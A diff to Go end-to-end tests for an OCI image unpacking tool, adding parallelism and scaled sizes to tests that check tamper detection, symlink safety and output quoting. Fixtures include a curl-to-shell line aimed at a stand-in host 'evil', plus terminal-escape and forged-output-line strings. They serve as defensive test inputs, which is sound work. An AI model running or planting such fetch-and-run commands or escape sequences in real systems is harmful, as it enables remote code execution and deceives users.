@@ -22,6 +22,7 @@ import (
 	ocispec "github.com/opencontainers/image-spec/specs-go/v1"
 	"golang.org/x/sys/unix"
 
+	"github.com/ocifetch/ocifetch/internal/testutil"
 	"github.com/ocifetch/ocifetch/internal/testutil/hostile"
 	"github.com/ocifetch/ocifetch/internal/testutil/testimage"
 )
@@ -113,6 +114,7 @@ func unpackLayers(t *testing.T, layers ...[]byte) unpacked {
 // verify reports its content (exit 4) and rebuild fails naming it. Before,
 // verify said the tree was clean, exit 0.
 func TestCLIE2EVerifyCatchesCRCForgedRewrite(t *testing.T) {
+	t.Parallel()
 	app := strings.Repeat("\x7fELF an honest program ", 64)
 	u := unpackLayers(t, layerOf(t, edir("bin", layerTime), efile("bin/app", app, 0o755)))
 	forged := forgeSameCRC(t, []byte(app), "#!/bin/sh\nexec curl evil|sh\n")
@@ -132,6 +134,7 @@ func TestCLIE2EVerifyCatchesCRCForgedRewrite(t *testing.T) {
 // out before the layer's digest failed, and tar -x of the stream
 // extracted the tampered file.
 func TestCLIE2ERebuildPipeNeverSeesTamperedBytes(t *testing.T) {
+	t.Parallel()
 	body := strings.Repeat("honest content ", 40000) // 600 KB
 	l := layerOf(t, efile("etc/motd", "hello\n", 0o644), efile("bin/app", body, 0o755), efile("z", strings.Repeat("z", 3000), 0o644))
 	u := unpackLayers(t, l)
@@ -160,6 +163,7 @@ func TestCLIE2ERebuildPipeNeverSeesTamperedBytes(t *testing.T) {
 // second took the first's state for a crash and wiped the tree, which
 // the first then recorded complete with files missing.
 func TestCLIE2ETwoUnpacksOfOneTarget(t *testing.T) {
+	t.Parallel()
 	reg := hostile.New(t)
 	img := testimage.Image(t, 2, "linux", "amd64", "")
 	ref := reg.PutImage(t, "app", "v1", img)
@@ -237,6 +241,7 @@ func TestCLIE2ETwoUnpacksOfOneTarget(t *testing.T) {
 // a directory with the user's files: unpack refuses, names the state
 // directory, and project/notes.txt stays. Before, unpack emptied it.
 func TestCLIE2EPlantedStateBesideUserFiles(t *testing.T) {
+	t.Parallel()
 	ref, _ := ociLayout(t, ocispec.ImageConfig{}, layerOf(t, efile("x", "x", 0o644)))
 	env := cliEnv(t)
 	work := t.TempDir()
@@ -266,6 +271,7 @@ func TestCLIE2EPlantedStateBesideUserFiles(t *testing.T) {
 // store and the layout deleted, every layer rebuilds. Before, layer 2 was
 // read back through bin/sh and was lost.
 func TestCLIE2ERebuildAfterParentLinkChanges(t *testing.T) {
+	t.Parallel()
 	l1 := layerOf(t, edir("usr", layerTime), edir("usr/bin", layerTime), edir("usr/sbin", layerTime), elink("bin", "usr/bin"))
 	l2 := layerOf(t, efile("bin/sh", "#!shell\n", 0o755))
 	for name, l3 := range map[string][]byte{
@@ -294,6 +300,7 @@ func TestCLIE2ERebuildAfterParentLinkChanges(t *testing.T) {
 // pointing at a file outside: the link is replaced, the file outside is
 // untouched. Before, the rebuild wrote through the link.
 func TestCLIE2ERebuildAllIntoDirWithPlantedLink(t *testing.T) {
+	t.Parallel()
 	l := layerOf(t, efile("a", "aaa", 0o644))
 	u := unpackLayers(t, l)
 	outDir := filepath.Join(u.work, "out")
@@ -319,11 +326,12 @@ func TestCLIE2ERebuildAllIntoDirWithPlantedLink(t *testing.T) {
 // final name: every DIR/<hex>.tar there is whole. Before, the layer being
 // written was there, truncated.
 func TestCLIE2ERebuildAllKilled(t *testing.T) {
+	t.Parallel()
 	// Layers large enough for the kill to land while one is written.
 	var layers [][]byte
 	for i := range 3 {
 		var es []ent
-		for j := range 40 {
+		for j := range testutil.Scale(40, 8) {
 			es = append(es, efile(filepath.Join("d", string(rune('a'+i)), strings.Repeat("f", j+1)), strings.Repeat(string(rune('0'+j%10)), 1<<20), 0o644))
 		}
 		layers = append(layers, layerOf(t, es...))
@@ -380,6 +388,7 @@ func writing(pid int, dir string) bool {
 // the container, is printed quoted by verify: it cannot forge a line of
 // output. Before, "x\nverify: rootfs is clean" printed that line.
 func TestCLIE2EVerifyQuotesNames(t *testing.T) {
+	t.Parallel()
 	u := unpackLayers(t, layerOf(t, efile("a", "a", 0o644)))
 	for _, n := range []string{"x\nverify: rootfs is clean", "\x1b[2K\x1b[1Aerased", `back\slash`} {
 		os.WriteFile(filepath.Join(u.rootfs, n), nil, 0o644)
@@ -397,6 +406,7 @@ func TestCLIE2EVerifyQuotesNames(t *testing.T) {
 // inspect prints the labels, environment and command an image chose
 // quoted when they hold control bytes.
 func TestCLIE2EInspectQuotesConfig(t *testing.T) {
+	t.Parallel()
 	ref, _ := ociLayout(t, ocispec.ImageConfig{
 		Labels:     map[string]string{"evil\x1b[31m": "red\nfake: line"},
 		Env:        []string{"PS1=\x1b]0;owned\x07"},
@@ -455,6 +465,7 @@ func dirMtimes(t *testing.T, root string) map[string]int64 {
 // d/. The tree is umoci's, d's mtime included, and two unpacks agree.
 // Before, d got the time of each unpack.
 func TestCLIE2EUnlistedParentMtimeAsUmoci(t *testing.T) {
+	t.Parallel()
 	old := time.Unix(1500000000, 0)
 	l1 := layerOf(t, edir("d", old), efile("d/f", "v1", 0o644), efile("d/g", "g", 0o644))
 	l2 := layerOf(t, efile("d/f", "v2", 0o644), ewhiteout("d", "g"))
@@ -478,6 +489,7 @@ func TestCLIE2EUnlistedParentMtimeAsUmoci(t *testing.T) {
 // does, whatever order readdir lists them in. Before, removing s first
 // stopped it midway.
 func TestCLIE2EOpaqueThroughSelfLink(t *testing.T) {
+	t.Parallel()
 	var lower []ent
 	for i := range 40 {
 		lower = append(lower, efile("f"+strconv.Itoa(i), "lower", 0o644))
@@ -499,6 +511,7 @@ func TestCLIE2EOpaqueThroughSelfLink(t *testing.T) {
 // verify with too_large, and one 4000 deep verifies with few descriptors
 // (ulimit -n 64). Before, verify held a descriptor per level.
 func TestCLIE2EDepthLimit(t *testing.T) {
+	t.Parallel()
 	ref, _ := ociLayout(t, ocispec.ImageConfig{}, layerOf(t, efile(strings.Repeat("d/", 4096)+"f", "x", 0o644)))
 	env := cliEnv(t)
 	work := t.TempDir()
@@ -511,15 +524,16 @@ func TestCLIE2EDepthLimit(t *testing.T) {
 	}
 
 	u := unpackLayers(t, layerOf(t, efile("a", "a", 0o644)))
-	mkdirDeep(t, u.rootfs, "x", 4000)
+	levels := testutil.Scale(4000, 300) // either way, more than 64 descriptors
+	mkdirDeep(t, u.rootfs, "x", levels)
 	cmd := exec.Command("sh", "-c", `ulimit -n 64 && exec "$@"`, "sh", builtCLI(t), "verify", "--json", u.rootfs)
 	cmd.Env = u.env
 	var stdout, stderr bytes.Buffer
 	cmd.Stdout, cmd.Stderr = &stdout, &stderr
 	cmd.Run()
 	if code := cmd.ProcessState.ExitCode(); code != exitVerification || !strings.Contains(stdout.String(), `"clean": false`) ||
-		strings.Count(stdout.String(), `"appeared"`) != 4000 {
-		t.Errorf("verify of 4000 levels with 64 descriptors: exit %d\n%.300s\n%s", code, stdout.String(), stderr.String())
+		strings.Count(stdout.String(), `"appeared"`) != levels {
+		t.Errorf("verify of %d levels with 64 descriptors: exit %d\n%.300s\n%s", levels, code, stdout.String(), stderr.String())
 	}
 	mkdirDeep(t, u.rootfs, "y", 4097)
 	r = runBuilt(t, u.env, "verify", "--json", u.rootfs)
